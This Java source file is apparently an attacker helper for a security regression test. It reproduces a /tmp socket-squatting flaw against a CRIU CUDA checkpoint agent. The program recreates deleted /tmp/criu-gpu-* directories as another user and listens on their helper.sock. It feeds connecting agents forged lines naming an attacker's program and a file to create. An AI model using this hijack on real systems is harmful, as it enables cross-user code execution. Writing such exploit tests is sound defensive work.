import java.io.BufferedReader;
import java.io.InputStreamReader;
import java.net.StandardProtocolFamily;
import java.net.UnixDomainSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.ServerSocketChannel;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.nio.file.FileSystems;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardWatchEventKinds;
import java.nio.file.WatchEvent;
import java.nio.file.WatchKey;
import java.nio.file.WatchService;
import java.util.Collections;
import java.util.HashSet;
import java.util.Set;

/**
 * The attacker of issue 31 B, run as another user (AgentSquatterTest starts it with setpriv): whenever a directory
 * /tmp/criu-gpu-* that it was told of is removed, it makes the same name its own (sticky /tmp lets anyone create a
 * free name), listens at NAME/helper.sock and sends whoever connects the CUDA agent's first lines: an "args" line
 * whose --cuda-checkpoint is its program, and a "log" line naming a file to create. Single-file source, JDK only.
 * Arguments: PROGRAM FILE-TO-CREATE; stdin: names to squat, one a line. Prints "watching", "target NAME" for each name
 * taken in, then one line per event.
 */
public class Squatter {
    public static void main(String[] args) throws Exception {
        Path tmp = Path.of("/tmp");
        Set<String> targets = Collections.synchronizedSet(new HashSet<>());
        WatchService watch = FileSystems.getDefault().newWatchService();
        tmp.register(watch, StandardWatchEventKinds.ENTRY_DELETE);
        Thread.ofPlatform().daemon(true).start(() -> {
            try (BufferedReader in = new BufferedReader(new InputStreamReader(System.in))) {
                for (String line; (line = in.readLine()) != null; ) {
                    targets.add(line.strip());
                    say("target " + line.strip());
                }
            } catch (Exception e) {
                say("stdin: " + e);
            }
            System.exit(0);
        });
        say("watching");
        while (true) {
            WatchKey key = watch.take();
            for (WatchEvent<?> e : key.pollEvents()) {
                String name = String.valueOf(e.context());
                if (targets.contains(name)) squat(tmp.resolve(name), args[0], args[1]);
            }
            key.reset();
        }
    }

    static synchronized void say(String line) {
        System.out.println(line);
        System.out.flush();
    }

    static void squat(Path dir, String program, String file) {
        try {
            Files.createDirectory(dir);
            ServerSocketChannel server = ServerSocketChannel.open(StandardProtocolFamily.UNIX);
            server.bind(UnixDomainSocketAddress.of(dir.resolve("helper.sock")));
            say("squatted " + dir);
            Thread.ofPlatform().daemon(true).start(() -> {
                try {
                    while (true) {
                        SocketChannel c = server.accept();
                        say("connected " + dir);
                        String lines = "args --criu-start 1 --backend cli --cuda-checkpoint " + program + "\nlog " + file + "\n";
                        c.write(ByteBuffer.wrap(lines.getBytes(StandardCharsets.UTF_8)));
                    }
                } catch (Exception e) {
                    say("accept: " + e);
                }
            });
        } catch (Exception e) {
            say("cannot squat " + dir + ": " + e);
        }
    }
}
